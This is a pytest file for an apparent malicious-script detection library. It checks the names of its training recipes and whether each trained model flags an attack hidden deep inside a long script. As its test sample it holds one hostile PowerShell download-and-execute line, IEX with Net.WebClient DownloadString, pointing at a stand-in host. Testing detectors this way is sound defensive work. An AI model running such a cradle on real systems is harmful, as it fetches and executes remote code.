"""The built-in recipes as the plugin manager knows them."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from sftsec_core.api.domain import Batch
from sftsec_core.recipes.config import EncoderSettings
from sftsec_core.recipes.specs import MEMBERS, RECIPES
from tests.core.recipes.jobs import job_of
from tests.core.recipes.long_texts import script, training_scripts


class TestRecipes:
    def test_are_offered_by_their_names(self) -> None:
        names = [recipe.name for recipe in RECIPES]
        assert names == [
            *("linear", "probe", "hybrid", "contrastive", "full", "lora", "bytes", "boosted"),
            "auto",
            "cascade",
        ]
        assert "auto" not in MEMBERS

    def test_import_without_torch(self) -> None:
        code = (
            "import sys, sftsec_core.recipes.specs, sftsec_core.recipes.auto;"
            "assert not {'torch', 'transformers', 'sklearn'} & set(sys.modules)"
        )
        subprocess.run([sys.executable, "-c", code], check=True)


class TestLongTexts:
    """A script whose only malicious part begins at 50,000 characters."""

    @pytest.mark.parametrize(
        "name", ["linear", "probe", "hybrid", "full", "lora", "bytes", "auto", "cascade"]
    )
    def test_attack_far_inside_is_found(
        self, name: str, tiny: EncoderSettings, tmp_path: Path
    ) -> None:
        recipe = next(each for each in RECIPES if each.name == name)
        encoder = tiny.model_copy(update={"overlap": 4})
        tuned = {"epochs": 6, "batch_size": 8, "learning_rate": 2e-3, "encoder": encoder}
        own: dict[str, dict[str, Any]] = {"linear": {}, "full": tuned, "lora": tuned}
        own["bytes"] = {**tuned, "epochs": 20, "width": 32}
        own["bytes"]["encoder"] = {"max_length": 128, "overlap": 8}
        own["cascade"] = {"then": "hybrid", "encoder": encoder}
        config = recipe.config_model(**own.get(name, {"encoder": encoder}))
        model = recipe.fit(job_of(training_scripts(), tmp_path, config=config))
        attack = "IEX (New-Object Net.WebClient).DownloadString('http://bad.example/b')"
        batch = Batch.of_texts([script(5, attack), script(5, None)])
        found = model.predict_proba(batch)[:, model.labels.index("malicious")]
        assert found[0] > 0.5 > found[1]
        unread = model.unread(batch)  # type: ignore[attr-defined]
        if name != "linear":  # what it has not read is told, and the attack is not part of it
            place = str(batch.text()[0]).index(attack)
            assert unread[0]
            assert all(end <= place or start >= place + 40 for start, end in unread[0])
